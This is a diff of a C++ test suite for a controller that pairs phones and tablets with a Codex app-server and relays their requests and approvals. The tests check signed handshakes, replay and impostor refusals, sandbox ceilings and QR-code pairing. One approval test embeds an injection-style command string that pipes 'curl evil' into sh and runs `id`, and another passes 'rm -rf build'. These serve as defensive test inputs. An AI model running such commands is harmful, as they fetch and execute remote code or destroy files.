@@ -23,13 +23,11 @@ namespace {
 class BridgeControllerTest : public ::testing::Test, public ControllerRig {
 protected:
     void makeController(bool withIdentity = true) { make({storedPeers, withIdentity}); }
-
     HelloPayload macHelloSentTo(const PeerHandle& peer) {
         auto hello = lastOfKind(peer, BridgeMessageKind::hello);
         EXPECT_TRUE(hello) << "no hello was sent";
         return hello ? HelloPayload::fromJSON(*hello->body).value() : HelloPayload{};
     }
-
     // What a device sends: a request, an answer to a question; and a refusal it is sent.
     void sendRequest(const PeerHandle& peer, std::string id, std::string method,
                      std::optional<JSONValue> params = {}) {
@@ -45,13 +43,11 @@ protected:
         return makeMessage(BridgeMessageKind::error, std::move(id), {}, std::move(body));
     }
     static JSONValue decision(JSONValue word) { return JSONObject{{"decision", std::move(word)}}; }
-
     std::map<std::string, TrustedPeer> storedPeers;
 };
 
 } // namespace
 
-// ---------------------------------------------------------------------------------------------
 // Construction, start and the activity log
 
 TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundredLines) {
@@ -69,7 +65,6 @@ TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundr
     EXPECT_TRUE(controller->appServerReady());
     EXPECT_EQ(controller->appServerStatus().toStdString(), "Codex app-server ready");
     EXPECT_EQ(ready.count(), 1);
-
     // A restart is logged above the status it brings, and the devices stay.
     pairDevice("Phone");
     controller->restartAppServer();
@@ -82,7 +77,6 @@ TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundr
     controller->restartAppServer();
     EXPECT_EQ(appServer->starts.back(), std::nullopt);
     EXPECT_EQ(controller->appServerStatus().toStdString(), controller->logs()[1]);
-
     for (int i = 0; i < 150; ++i) {
         appServer->status("line " + std::to_string(i), false);
     }
@@ -119,7 +113,6 @@ TEST_F(BridgeControllerTest, TrustedPeersAreSortedCaseSensitively) {
     EXPECT_EQ(names, (std::vector<std::string>{"Ann", "Zed", "bob"}));
 }
 
-// ---------------------------------------------------------------------------------------------
 // Intake
 
 // Pings and other versions at every stage: DeviceHandshakeTest.
@@ -183,7 +176,6 @@ TEST_F(BridgeControllerTest, MalformedBytesAndFailedHellosGiveOneBoundedLineAndS
     }
 }
 
-// ---------------------------------------------------------------------------------------------
 // Handshake and pairing
 
 TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthorises) {
@@ -192,7 +184,6 @@ TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthoris
     EXPECT_TRUE(macHello.verify());
     EXPECT_EQ(macHello.displayName, "Studio");
     ask(device.peer);
-
     ASSERT_EQ(controller->pairingRequests().size(), 1u);
     const PairingRequest& request = controller->pairingRequests()[0];
     EXPECT_EQ(request.peer, device.peer);
@@ -200,7 +191,6 @@ TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthoris
     EXPECT_EQ(controller->logs().front(),
               "Pairing requested by Phone. Compare code " + request.code + ".");
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
-
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_TRUE(controller->pairingRequests().empty());
     EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
@@ -209,7 +199,6 @@ TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthoris
     EXPECT_EQ(controller->trustedPeers()[0].publicKey, device.hello.publicKey);
     EXPECT_EQ(lastSentTo(device.peer),
               makeMessage(BridgeMessageKind::pairingAccepted, {}, {}, macHello.toJSON()));
-
     sendRequest(device.peer, "r1", "thread/list");
     ASSERT_EQ(appServer->requests.size(), 1u);
 }
@@ -299,7 +288,6 @@ TEST_F(BridgeControllerTest, ATrustedDeviceIsAuthorisedByItsHelloAlone) {
     TestSigner& signer = first.signer;
     link->disconnect(first.peer);
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
-
     PeerHandle again = link->connect("Phone");
     HelloPayload macHello = macHelloSentTo(again);
     hello(again, signer.hello("Phone"));
@@ -314,7 +302,6 @@ TEST_F(BridgeControllerTest, AKnownDeviceIDWithAnotherKeyGetsNothing) {
     auto& paired = pairDevice("Phone");
     link->disconnect(paired.peer);
     const std::size_t linesBefore = controller->logs().size();
-
     // Same device ID, its own key: the hello verifies, but the stored key differs.
     TestSigner impostor(paired.signer.deviceID());
     PeerHandle peer = link->connect("Phone");
@@ -339,7 +326,6 @@ TEST_F(BridgeControllerTest, ForgetClosesEverySessionOfTheDeviceAndItCanPairAgai
     hello(watcher, device.signer.hello("Phone watch"));
     ASSERT_TRUE(controller->authorizedPeerNames().contains("Phone watch"));
     const std::size_t closedBefore = link->closedByOwner.size();
-
     const auto& trusted = controller->trustedPeers();
     const auto phone = std::find_if(trusted.begin(), trusted.end(), [&](const TrustedPeer& peer) {
         return peer.deviceID == device.signer.deviceID();
@@ -357,7 +343,6 @@ TEST_F(BridgeControllerTest, ForgetClosesEverySessionOfTheDeviceAndItCanPairAgai
     EXPECT_EQ(controller->authorizedPeerNames(), (std::set<std::string>{"Tablet"}));
     sendRequest(device.peer, "r1", "thread/list");
     EXPECT_TRUE(appServer->requests.empty());
-
     auto& again = connectDevice("Phone");
     ask(again.peer);
     ASSERT_EQ(controller->pairingRequests().size(), 1u);
@@ -374,7 +359,6 @@ TEST_F(BridgeControllerTest, TrustStoreFailuresAreLoggedAndChangeNothingShown) {
     EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
     EXPECT_TRUE(controller->trustedPeers().empty());
     EXPECT_EQ(controller->pairingRequests().size(), 1u);
-
     trustStore->failWrites = false;
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     trustStore->failWrites = true;
@@ -390,7 +374,6 @@ TEST_F(BridgeControllerTest, SendFailuresAreReportedWhereTheyMatter) {
     EXPECT_EQ(controller->logs().front(),
               "Could not start secure handshake: The signing key is not usable.");
     identity->fail = false;
-
     auto& device = connectDevice("Tablet");
     ask(device.peer);
     link->failingPeers.insert(device.peer);
@@ -400,7 +383,6 @@ TEST_F(BridgeControllerTest, SendFailuresAreReportedWhereTheyMatter) {
     EXPECT_TRUE(controller->authorizedPeerNames().contains("Tablet"));
 }
 
-// ---------------------------------------------------------------------------------------------
 // Request relay
 
 // A stranger's requests: DeviceHandshakeTest.
@@ -433,7 +415,6 @@ TEST_F(BridgeControllerTest, RelaysRequestsAndAnswersUnderTheDevicesOwnIDs) {
     ASSERT_EQ(appServer->requests.size(), 2u);
     EXPECT_EQ(appServer->requests[0].params, JSONValue(JSONObject{}));
     EXPECT_EQ(appServer->requests[1].params, JSONValue(JSONObject{{"threadId", "/tmp"}}));
-
     appServer->answer(1, JSONValue(JSONArray{1, 2}));
     appServer->requests[0].completion(Unexpected(Error{"Codex app-server is still starting."}));
     auto sent = link->sentTo(device.peer);
@@ -449,7 +430,6 @@ TEST_F(BridgeControllerTest, AnAnswerForADeviceThatLeftIsLogged) {
     link->disconnect(device.peer);
     appServer->answer(0, JSONValue(JSONObject{}));
     EXPECT_EQ(controller->logs().front(), "Could not reply to Phone: The peer is not connected.");
-
     // The name is shown in the log as everywhere else: cut, and its hidden characters spelled out.
     const std::string hidden = "Ph\u200Bone " + std::string(100, 'x');
     auto& other = pairDevice(hidden);
@@ -506,7 +486,6 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     link->waiting[quick.peer] = RequestRelay::holdAbove;
     appServer->notify("item/delta", params);
     EXPECT_FALSE(appServer->held) << "at the mark is not behind";
-
     link->waiting[slow.peer] = RequestRelay::holdAbove + 1;
     appServer->notify("item/delta", params);
     EXPECT_TRUE(appServer->held);
@@ -514,7 +493,6 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     EXPECT_TRUE(appServer->held) << "another device is still behind";
     link->ease(slow.peer);
     EXPECT_FALSE(appServer->held);
-
     // An answer to a device that is behind holds as well; its leaving releases.
     sendRequest(slow.peer, "r", "thread/read");
     link->waiting[slow.peer] = 3 * RequestRelay::holdAbove;
@@ -522,7 +500,6 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     EXPECT_TRUE(appServer->held);
     link->disconnect(slow.peer);
     EXPECT_FALSE(appServer->held);
-
     // A device that does not catch up is let go after the limit, and waited for again once it
     // has caught up.
     link->waiting[quick.peer] = 3 * RequestRelay::holdAbove;
@@ -537,7 +514,6 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
     EXPECT_TRUE(appServer->held);
 }
 
-// ---------------------------------------------------------------------------------------------
 // Approvals
 
 TEST_F(BridgeControllerTest, VersionOneApprovalsGoToTheFirstAuthorisedDeviceOnly) {
@@ -556,7 +532,6 @@ TEST_F(BridgeControllerTest, VersionOneApprovalsGoToTheFirstAuthorisedDeviceOnly
     ASSERT_TRUE(question.id);
     EXPECT_TRUE(std::regex_match(
         *question.id, std::regex("[0-9A-F]{8}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{12}")));
-
     // Unpaired devices, unknown ids and missing ids are ignored; any paired device may answer.
     sendAnswer(stranger.peer, question.id, decision("accept"));
     sendAnswer(second.peer, "unknown");
@@ -590,7 +565,6 @@ TEST_F(BridgeControllerTest, WithoutAWaitLimitTheBridgeDeclinesWhenNoDeviceCanBe
     ASSERT_EQ(appServer->replies.size(), 1u);
     EXPECT_EQ(appServer->replies[0].result, decision("decline"));
     EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
-
     appServer->ask(JSONValue(3), "item/tool/requestUserInput", JSONObject{});
     ASSERT_EQ(appServer->replies.size(), 2u);
     EXPECT_EQ(appServer->replies[1].errorMessage,
@@ -604,7 +578,6 @@ TEST_F(BridgeControllerTest, AQuestionOutlivesADisconnectAndAnEmptyAnswerDecline
     std::string questionID = *link->sent.at(0).message.id;
     link->disconnect(device.peer);
     EXPECT_EQ(controller->pendingServerRequestCount(), 1u);
-
     PeerHandle again = link->connect("Phone");
     hello(again, device.signer.hello("Phone"));
     ASSERT_TRUE(controller->authorizedPeerNames().contains("Phone"));
@@ -624,7 +597,6 @@ TEST_F(BridgeControllerTest, ARestartEndsTheQuestionsOfTheStoppedProcess) {
     const std::string before = *link->sent.at(0).message.id;
     controller->restartAppServer();
     EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
-
     // The new process asks with the same id; only the answer to its own question reaches it.
     appServer->ask(JSONValue(0), "item/commandExecution/requestApproval",
                    JSONObject{{"command", "rm -rf build"}});
@@ -637,7 +609,6 @@ TEST_F(BridgeControllerTest, ARestartEndsTheQuestionsOfTheStoppedProcess) {
     EXPECT_EQ(appServer->replies[0].result, decision("decline"));
 }
 
-// ---------------------------------------------------------------------------------------------
 // Handshake version 2, and the attacks each of its steps stops
 
 namespace {
@@ -645,7 +616,6 @@ namespace {
 class HandshakeV2Test : public BridgeControllerTest {
 protected:
     HandshakeV2Test() { link->fingerprint = std::string(64, 'c'); }
-
     const BridgeMessage acceptedV2 = makeMessage(BridgeMessageKind::pairingAccepted, {}, {},
                                                  JSONValue(JSONObject{{"protocol", 2}}));
     // What a version-2 device is sent on being accepted: the acceptance, then its ceiling.
@@ -711,7 +681,6 @@ TEST_F(HandshakeV2Test, PairsByCommitAndRevealAndAuthenticatesByProofOnReconnect
         EXPECT_EQ(lastTwoSentTo(device->peer), welcome());
         EXPECT_EQ(trustStore->peers.at(device->signer.deviceID()).protocolVersion, 2);
         sendRequest(device->peer, "r", "thread/list");
-
         // The next connection proves itself and needs nobody.
         link->disconnect(device->peer);
         auto again = connectV2(name, seen, std::move(device));
@@ -730,7 +699,6 @@ TEST_F(HandshakeV2Test, TheCeilingHoldsEveryDeviceAndEachLearnsItsOwn) {
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     EXPECT_EQ(lastTwoSentTo(phone->peer), welcome());
     auto& tablet = pairDevice("Tablet");
-
     // A stolen session asking for more on either version: DeviceHandshakeTest's refusals.
     sendRequest(tablet.peer, "y", "turn/start",
                 JSONValue(JSONObject{{"threadId", "t"},
@@ -744,7 +712,6 @@ TEST_F(HandshakeV2Test, TheCeilingHoldsEveryDeviceAndEachLearnsItsOwn) {
         "Tablet asked for sandboxPolicy {\"type\":\"dangerFullAccess\"} in turn/start, refused: "
         "This computer allows devices at most the workspace-write sandbox.");
     EXPECT_TRUE(appServer->requests.empty());
-
     // The phone is given a lower ceiling: it learns it at once, the version-1 tablet learns
     // nothing new on its wire, and each is held to its own.
     CeilingBook book = controller->ceilings();
@@ -764,7 +731,6 @@ TEST_F(HandshakeV2Test, TheCeilingHoldsEveryDeviceAndEachLearnsItsOwn) {
     ASSERT_EQ(appServer->requests.size(), 1u);
     EXPECT_EQ(*appServer->requests[0].params.member("sandbox"), JSONValue("workspace-write"));
     EXPECT_EQ(*appServer->requests[0].params.member("approvalPolicy"), JSONValue("on-request"));
-
     // A ceiling that cannot be kept does not hold either.
     ceilings->failSave = true;
     book.devices.clear();
@@ -816,7 +782,6 @@ TEST_F(HandshakeV2Test, AProofCapturedOnOneConnectionIsWorthlessOnAnother) {
     auto device = connectV2("Phone");
     requestPairing(*device);
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
-
     // Someone replays the device's offer and proof on a connection of their own.
     PeerHandle replay = link->connect("Phone", 2);
     hello(replay, device->offer);
@@ -838,7 +803,6 @@ TEST_F(HandshakeV2Test, ARelayedCertificateOrAGrindingDeviceGetsNothing) {
     const std::size_t sent = link->sentTo(relayed->peer).size();
     link->deliver(relayed->peer, makeMessage(BridgeMessageKind::ping, "p"));
     EXPECT_EQ(link->sentTo(relayed->peer).size(), sent) << "the session gets nothing more";
-
     // A device that tries to reveal another nonce than it committed to, to pick its code.
     auto grinder = connectV2("Grinder");
     requestPairing(*grinder, randomNonceV2());
@@ -875,7 +839,6 @@ TEST_F(HandshakeV2Test, AnAttemptAbandonedBeforeItsRevealClosesAndFewAttemptsMay
     link->disconnect(leaver->peer);
     EXPECT_EQ(controller->logs().front(),
               "Leaver left during a pairing attempt, before revealing its nonce.");
-
     // Two attempts so far; the rest of the minute's share of this address, each revealed.
     for (int attempt = 2; attempt < PairingAttemptLimit::defaultPerAddress; ++attempt) {
         auto device = connectV2("Phone " + std::to_string(attempt));
@@ -910,7 +873,6 @@ TEST_F(HandshakeV2Test, AVersionOneHelloIsRefusedForADevicePairedWithVersionTwo)
     requestPairing(*device);
     ASSERT_TRUE(decideNewest(PairingDecision::accept));
     link->disconnect(device->peer);
-
     // The device's own key, through version 1: a replayable hello is not enough any more.
     PeerHandle old = link->connect("Phone");
     hello(old, device->signer.hello("Phone"));
@@ -938,7 +900,6 @@ TEST_F(HandshakeV2Test, AVersionOneRecordIsUpgradedWhenItsDeviceProvesItselfWith
     EXPECT_EQ(trustStore->peers.begin()->second.protocolVersion, 2);
 }
 
-// ---------------------------------------------------------------------------------------------
 // Approvals that wait, are shown on every version-2 session and are settled
 
 namespace {
@@ -999,7 +960,6 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
     ASSERT_EQ(toOld.size(), 1u);
     EXPECT_EQ(toOld[0].id, first[0].id);
     EXPECT_EQ(toOld[0].body, commandParams());
-
     // The phone's screen locked and came back: right after its pairingAccepted, the same id,
     // with how long Codex has waited.
     now += 42s;
@@ -1011,7 +971,6 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
     EXPECT_EQ(sent[sent.size() - 2].kind, BridgeMessageKind::ceiling);
     EXPECT_EQ(sent.back().id, first[0].id);
     EXPECT_EQ(sent.back().body, shown(commandParams(), 42));
-
     // A second question; a session that comes back gets both, oldest first.
     const JSONValue fileParams = JSONObject{{"threadId", "t2"}, {"turnId", "u9"}, {"itemId", "f"}};
     appServer->ask(JSONValue("b"), fileMethod, fileParams);
@@ -1022,7 +981,6 @@ TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterIt
     EXPECT_EQ(both[0].id, first[0].id);
     EXPECT_EQ(both[1].method, fileMethod);
     EXPECT_EQ(both[1].body, shown(fileParams, 0));
-
     // A version-1 device that comes back is not asked again.
     link->disconnect(old.peer);
     PeerHandle oldAgain = link->connect("Old");
@@ -1171,7 +1129,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     std::vector<WaitingQuestion> waiting;
     QObject::connect(&controller->approvals(), &ApprovalRouter::waitingStarted, controller.get(),
                      [&](const WaitingQuestion& question) { waiting.push_back(question); });
-
     // Asked while no device is connected: it waits, and the person is told what it is about,
     // Codex's text made visible (no raw line break reaches a notification or the log).
     const std::string hostile = "echo \"hi\"\n$(curl evil | sh) `id`";
@@ -1183,7 +1140,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     EXPECT_EQ(waiting[0].threadID, "t1");
     EXPECT_EQ(waiting[0].shown.find('\n'), std::string::npos);
     EXPECT_NE(waiting[0].shown.find("\\u{000A}"), std::string::npos) << waiting[0].shown;
-
     // A device comes back in time: it is shown the question, which no longer waits; when it
     // leaves again the wait starts over.
     now += 9min;
@@ -1201,7 +1157,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     EXPECT_EQ(ended.size(), 2);
     EXPECT_EQ(controller->logs().front().find('\n'), std::string::npos);
     EXPECT_EQ(controller->logs().front().rfind("Declined the command \"echo ", 0), 0u);
-
     // No limit: it waits as long as Codex does; a limit of zero declines at once, and then
     // declines at once what is asked while nobody is there, without a wait.
     controller->approvals().setWaitLimit(std::nullopt);
@@ -1225,7 +1180,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     appServer->ask(JSONValue(2), fileMethod, JSONObject{});
     ASSERT_EQ(appServer->replies.size(), 3u);
     EXPECT_EQ(started.size(), 3);
-
     // A turn that ends with nobody connected is news for the person.
     appServer->notify("turn/completed",
                       JSONObject{{"threadId", "t1"}, {"turn", JSONObject{{"id", "u1"}}}});
@@ -1268,7 +1222,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
         EXPECT_EQ(link->closeCodes.back(), SessionClose::policyViolation);
         EXPECT_TRUE(controller->pairingRequests().empty());
     };
-
     // A stranger under the name, and a trusted device of another ID that takes it: each is
     // refused at its hello (version 1) or proof (version 2), before it could ask to pair.
     auto& stranger = connectDevice("Phone");
@@ -1280,7 +1233,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
     refusedAs(strangeWatch->peer, "Watch");
     EXPECT_FALSE(lastOfKind(strangeWatch->peer, BridgeMessageKind::pairingAccepted));
     EXPECT_EQ(controller->authorizedPeerNames(), (std::set<std::string>{"Phone", "Watch"}));
-
     // The device itself coming back replaces its older session, and the older one hears why.
     const PeerHandle older = phone.peer;
     phone.peer = link->connect("Phone");
@@ -1289,7 +1241,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
     EXPECT_EQ(controller->logs().front(), "Authenticated Phone.");
     EXPECT_EQ(link->closedByOwner.back(), older);
     EXPECT_EQ(link->closeCodes.back(), SessionClose::replaced);
-
     // A card shown while the device was away goes when the device comes back.
     auto& early = connectDevice("Tablet");
     ask(early.peer);
@@ -1304,7 +1255,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
     EXPECT_TRUE(appServer->requests.empty());
 }
 
-// ---------------------------------------------------------------------------------------------
 // Pairing by QR code
 
 namespace {
@@ -1321,7 +1271,6 @@ std::string secretBytes(const std::string& base64Url) {
 class QrPairingTest : public HandshakeV2Test {
 protected:
     QrPairingTest() { link->web = "https://192.0.2.7:50123/"; }
-
     // Opens the panel and gives the secret's bytes from the address it shows.
     std::string openPanel() {
         const std::string url = controller->openPhonePairing().toStdString();
@@ -1352,7 +1301,6 @@ TEST(PhonePairingSecretTest, LivesFiveMinutesAndBurnsOnUseCloseAndReplacementBut
     const std::string text = "tarnwick-v2-qr-pairing|1:x";
     EXPECT_FALSE(secret.isOpen());
     EXPECT_FALSE(secret.use(text, qrPairingProof("", text)));
-
     const std::string shown = secret.open();
     EXPECT_EQ(shown.size(), 43u);
     EXPECT_EQ(shown.find_first_of("+/="), std::string::npos);
@@ -1369,15 +1317,12 @@ TEST(PhonePairingSecretTest, LivesFiveMinutesAndBurnsOnUseCloseAndReplacementBut
     EXPECT_TRUE(secret.use(text, proof));
     EXPECT_FALSE(secret.isOpen());
     EXPECT_FALSE(secret.use(text, proof)) << "used once";
-
     const std::string expiring = secretBytes(secret.open());
     now += PhonePairingSecret::lifetime;
     EXPECT_FALSE(secret.use(text, qrPairingProof(expiring, text))) << "expired";
-
     const std::string closed = secretBytes(secret.open());
     secret.close();
     EXPECT_FALSE(secret.use(text, qrPairingProof(closed, text))) << "closed";
-
     const std::string older = secretBytes(secret.open());
     const std::string newer = secretBytes(secret.open());
     EXPECT_NE(older, newer);
@@ -1401,7 +1346,6 @@ TEST_F(QrPairingTest, AProvenPhoneWithTheSecretIsTrustedWithoutACardAndTheSecret
     EXPECT_EQ(trustStore->peers.at(phone->signer.deviceID()).protocolVersion, 2);
     sendRequest(phone->peer, "r", "thread/list");
     EXPECT_EQ(appServer->requests.size(), 1u);
-
     // Someone who saw the code too late: it has been used.
     auto late = connectV2("Late", "");
     proveSecret(*late, secret);
@@ -1431,20 +1375,17 @@ TEST_F(QrPairingTest, AWrongExpiredOrClosedSecretIsRefusedAndAStrangerSpoilsNoth
     // The user's code still works, for a native device that names the certificate too.
     proveSecret(*phone, secret);
     EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
-
     auto closedOut = connectV2("Closed", "");
     const std::string closed = openPanel();
     controller->closePhonePairing();
     proveSecret(*closedOut, closed);
     EXPECT_TRUE(refused(*closedOut, "Closed"));
-
     // The secret expires by the controller's clock (a replaced one: PhonePairingSecretTest).
     auto slow = connectV2("Slow", "");
     const std::string newer = openPanel();
     now += std::chrono::minutes(5);
     proveSecret(*slow, newer);
     EXPECT_TRUE(refused(*slow, "Slow"));
-
     // Without an address to show, nothing is opened.
     link->web.clear();
     EXPECT_TRUE(controller->openPhonePairing().isEmpty());
@@ -1462,7 +1403,6 @@ TEST_F(QrPairingTest, ProofsAreBoundedPerConnectionAndNeedAProvenUntrustedSessio
     EXPECT_EQ(controller->logs().size(), logged) << "ignored beyond the bound";
     EXPECT_EQ(link->sentTo(guesser->peer).size(), answered);
     EXPECT_FALSE(trustStore->peers.contains(guesser->signer.deviceID()));
-
     // Before its proof a connection cannot pair, and its attempt does not burn the secret.
     auto unproven = std::make_unique<V2Device>();
     unproven->peer = link->connect("Unproven", 2);
@@ -1474,7 +1414,6 @@ TEST_F(QrPairingTest, ProofsAreBoundedPerConnectionAndNeedAProvenUntrustedSessio
     proveSecret(*unproven, secret);
     EXPECT_FALSE(lastOfKind(unproven->peer, BridgeMessageKind::pairingAccepted));
     EXPECT_FALSE(trustStore->peers.contains(unproven->signer.deviceID()));
-
     auto phone = connectV2("Phone", "");
     proveSecret(*phone, secret);
     EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
